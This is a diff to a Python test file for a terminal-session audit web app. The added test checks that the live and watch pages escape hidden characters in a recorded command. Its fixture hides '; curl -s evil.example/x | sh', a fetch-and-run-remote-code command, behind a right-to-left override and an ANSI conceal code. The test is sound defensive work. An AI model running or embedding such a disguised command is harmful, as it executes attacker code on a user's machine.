@@ -230,3 +230,23 @@ def test_live_now_reads_a_fixed_number_of_queries_however_many_sessions(scene: S
         _session(_grant(scene.world, scene.world.db))
     assert len(selectors.live_session_list(user=scene.world.auditor)) == 7
     assert queries() == few
+
+
+def test_live_now_and_the_watch_page_show_a_command_line_with_its_hidden_characters_made_visible(
+    world: World,
+) -> None:
+    # For a command session this line is all an approver sees live when deciding to end it.
+    hostile = "cat notes.txt #\u202e\x1b[8m; curl -s evil.example/x | sh"
+    grant = _grant(world, world.web)
+    session = _session(grant, client=SessionClient.CLI, kind=SessionKind.EXEC, command=hostile)
+    client = Client()
+    client.force_login(world.approver)
+
+    live = client.get(reverse("terminal:live")).content.decode()
+    watch = client.get(reverse("terminal:watch", args=[session.pk])).content.decode()
+
+    cell = live.split('class="mono small live-command">', 1)[1].split("</div>", 1)[0]
+    shown = watch.split("A command session (", 1)[1].split(")", 1)[0]
+    for text in (cell, shown):
+        assert "\u202e" not in text and "\x1b" not in text
+        assert "cat notes.txt #\\u202e\\x1b[8m; curl" in text
